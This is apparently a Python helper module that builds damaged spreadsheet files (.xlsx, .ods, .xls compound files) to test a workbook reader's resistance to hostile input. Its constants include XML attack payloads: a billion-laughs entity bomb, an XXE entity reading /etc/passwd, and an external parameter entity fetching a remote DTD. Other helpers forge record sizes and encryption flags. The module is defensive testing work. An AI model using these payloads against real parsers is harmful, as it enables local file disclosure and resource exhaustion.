"""Helpers for the hostile-workbook corpus (tests/test_reader_hostile.py): ways to damage
a real filled MOI-FV v2 return at the level of its bytes (zip members, XML parts, the
compound file and BIFF records of an .xls), as an attacker or a broken tool would.

Sheet parts of the template as `templates.py` writes it: sheet1 Title, sheet2 T1, sheet3
T2, sheet4 T3, sheet5 T4, sheet6 T5, sheet7 _lists, sheet8 _labels, sheet9 _meta.
"""

from __future__ import annotations

import re
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook

from gbvstats.collect.cfb import CompoundFile

T1_PART = "xl/worksheets/sheet2.xml"
DTD_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
              b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>')
DTD_EXTERNAL = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
DTD_PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>'
INLINE_X = b'<c t="inlineStr"><is><t>x</t></is></c>'

Replacement = bytes | Callable[[bytes], bytes]


# --- zip packages ----------------------------------------------------------------------

def rezip(src: Path, dst: Path, replace: dict[str, Replacement] | None = None,
          add: list[tuple[str, bytes]] = (), drop: tuple[str, ...] = ()) -> Path:
    """A copy of a package with members replaced, added (even under a name already
    there) or dropped; the order of the others kept (an .ods keeps its mimetype first)."""
    replace = replace or {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names: that is the point
        with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
            for item in zin.infolist():
                if item.filename in drop:
                    continue
                data = zin.read(item)
                change = replace.get(item.filename)
                data = change(data) if callable(change) else (data if change is None else change)
                zout.writestr(item, data)
            for name, data in add:
                zout.writestr(name, data)
    return dst


def member(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(name)


def after_prolog(xml: bytes, insert: bytes) -> bytes:
    """`insert` right after the XML declaration (where a DOCTYPE goes)."""
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:end] + insert + xml[end:]


def with_dtd(src: Path, dst: Path, part: str, dtd: bytes = DTD_LAUGHS,
             reference: tuple[bytes, bytes] | None = None) -> Path:
    """A DOCTYPE in one part; `reference` (old, new) also puts an entity into use."""
    def change(xml: bytes) -> bytes:
        xml = after_prolog(xml, dtd)
        return xml.replace(*reference, 1) if reference else xml
    return rezip(src, dst, {part: change})


def in_sheet_data(xml: bytes, rows: bytes, comment: bytes = b"") -> bytes:
    """Rows added at the end of a sheet's data (and a comment at its start)."""
    xml = xml.replace(b"<sheetData>", b"<sheetData>" + comment, 1)
    return xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)


def utf16(xml: bytes) -> bytes:
    return xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def encrypted_entry(src: Path, dst: Path) -> Path:
    """The zip's first member flagged as encrypted (traditional zip password)."""
    data = bytearray(src.read_bytes())
    data[6] |= 1  # local header general-purpose flags
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 1
    dst.write_bytes(bytes(data))
    return dst


def workbook_names(src: Path, dst: Path, change: Callable[[bytes], bytes]) -> Path:
    return rezip(src, dst, {"xl/workbook.xml": change})


def drop_header_names(xml: bytes) -> bytes:
    return re.sub(rb'<definedName name="gbv_[a-z]+">[^<]*</definedName>', b"", xml)


def copy_sheet(src: Path, dst: Path, sheet: str, name: str, before: bool, **cells) -> Path:
    """A copy of a sheet under `name` (spaces, case or letters changed), placed before or
    after the original, with some cells changed in the copy."""
    wb = load_workbook(src)
    ws = wb.copy_worksheet(wb[sheet])
    ws.title = name
    for addr, value in cells.items():
        ws[addr] = value
    if before:
        wb.move_sheet(ws, offset=wb.index(wb[sheet]) - wb.index(ws))
    wb.save(dst)
    return dst


# --- OpenDocument ------------------------------------------------------------------------

def ods_table(content: bytes, name: str) -> tuple[int, int]:
    """(start, end) of a table element in content.xml."""
    start = content.index(b'<table:table table:name="' + name.encode() + b'"')
    return start, content.index(b"</table:table>", start) + len(b"</table:table>")


def ods_before_trailing_rows(content: bytes, table: str, rows: bytes) -> bytes:
    """Rows inserted after a table's last written row, before the run of empty rows
    LibreOffice writes down to the end of the sheet."""
    start, end = ods_table(content, table)
    run = re.compile(rb'<table:table-row[^>]*table:number-rows-repeated="\d{4,}"')
    at = run.search(content, start, end).start()
    return content[:at] + rows + content[at:]


def ods_extra_table(content: bytes, xml: bytes) -> bytes:
    """A table appended after the last one."""
    end = content.rindex(b"</table:table>") + len(b"</table:table>")
    return content[:end] + xml + content[end:]


ODS_ENCRYPTED_MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
    b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
    b'<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="101844">'
    b'<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k"'
    b' manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc"'
    b' manifest:initialisation-vector="AAAA"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2"'
    b' manifest:key-size="32" manifest:iteration-count="100000" manifest:salt="AAAA"/></manifest:encryption-data>'
    b'</manifest:file-entry></manifest:manifest>')


# --- compound files and .xls -------------------------------------------------------------

def compound_file(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A version-3 compound file (512-byte sectors) holding these streams (each at least
    4096 bytes, so none goes to the mini stream) and empty storages, as Office writes."""
    sector, free, end, fat_mark = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    assert all(len(d) >= 4096 for d in streams.values()), "streams under 4096 bytes need a mini stream"
    padded = {n: d + b"\0" * (-len(d) % sector) for n, d in streams.items()}
    n_entries = 1 + len(streams) + len(storages)
    dir_sectors = -(-n_entries * 128 // sector)
    data_sectors = sum(len(d) // sector for d in padded.values())
    n_fat = 1
    while n_fat * 128 < n_fat + dir_sectors + data_sectors:
        n_fat += 1
    fat = [fat_mark] * n_fat
    fat += [n_fat + i + 1 for i in range(dir_sectors - 1)] + [end]
    starts, body = {}, b""
    for name, data in padded.items():
        first, count = len(fat), len(data) // sector
        starts[name] = first
        fat += [first + i + 1 for i in range(count - 1)] + [end]
        body += data
    fat += [free] * (n_fat * 128 - len(fat))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", free, right, child) + b"\0" * 36 + struct.pack("<IQ", start, size))

    names = [(n, 2) for n in streams] + [(n, 1) for n in storages]
    directory = entry("Root Entry", 5, free, 1 if names else free, end, 0)
    for i, (name, kind) in enumerate(names, start=1):
        right = i + 1 if i < len(names) else free
        directory += entry(name, kind, right, free, starts.get(name, 0) if kind == 2 else 0,
                           len(streams[name]) if kind == 2 else 0)
    directory = directory.ljust(dir_sectors * sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, n_fat, n_fat, 0, 4096,
                            end, 0, end, 0))
    difat = list(range(n_fat)) + [free] * (109 - n_fat)
    header += struct.pack("<109I", *difat)
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + body


def workbook_stream(path: Path) -> bytes:
    cf = CompoundFile(path.read_bytes())
    return cf.read(cf.find("Workbook", "Book"))


def xls_from(src: Path, dst: Path, extra: dict[tuple[str, int, int], object] | None = None) -> Path:
    """The values of every sheet written as a legacy .xls by xlwt (as an old Excel would),
    plus values at (sheet, row, col) 0-based: xlwt writes up to IV65536."""
    import xlwt

    wb = load_workbook(src)
    book = xlwt.Workbook()
    for ws in wb.worksheets:
        out = book.add_sheet(ws.title)
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    out.write(cell.row - 1, cell.column - 1, cell.value)
        for (sheet, r, c), value in (extra or {}).items():
            if sheet == ws.title:
                out.write(r, c, value)
    book.save(str(dst))
    return dst


def biff_records(stream: bytes):
    pos = 0
    while pos + 4 <= len(stream):
        typ, size = struct.unpack_from("<HH", stream, pos)
        yield pos, typ, size
        pos += 4 + size


def with_filepass(stream: bytes) -> bytes:
    """A FILEPASS record (RC4 encryption) right after the workbook's BOF."""
    _, _, size = next(biff_records(stream))
    record = struct.pack("<HHHH", 0x002F, 4, 1, 1)
    return stream[:4 + size] + record + stream[4 + size:]


def forged_dimensions(stream: bytes, sheet_index: int) -> bytes:
    """The DIMENSIONS record of one sheet claims 4 billion rows and 256 columns."""
    data = bytearray(stream)
    seen = -1
    for pos, typ, size in biff_records(stream):
        if typ == 0x0200:
            seen += 1
            if seen == sheet_index and size == 14:
                struct.pack_into("<IIHH", data, pos + 4, 0, 0xFFFFFF00, 0, 0x00FF)
                return bytes(data)
    raise AssertionError("no DIMENSIONS record for that sheet")


def xls_container(stream: bytes, dst: Path, extra: dict[str, bytes] | None = None,
                  storages: tuple[str, ...] = ()) -> Path:
    dst.write_bytes(compound_file({"Workbook": stream, **(extra or {})}, storages))
    return dst


def encrypted_ooxml(dst: Path) -> Path:
    """What Excel writes for "Encrypt with password": a compound file holding the
    encryption header and the encrypted package (contents here are not real ciphertext)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    package = struct.pack("<Q", 20000) + bytes((i * 37) % 256 for i in range(8192))
    dst.write_bytes(compound_file({"EncryptionInfo": info.ljust(4096, b"\0"), "EncryptedPackage": package},
                                  storages=("\x06DataSpaces",)))
    return dst
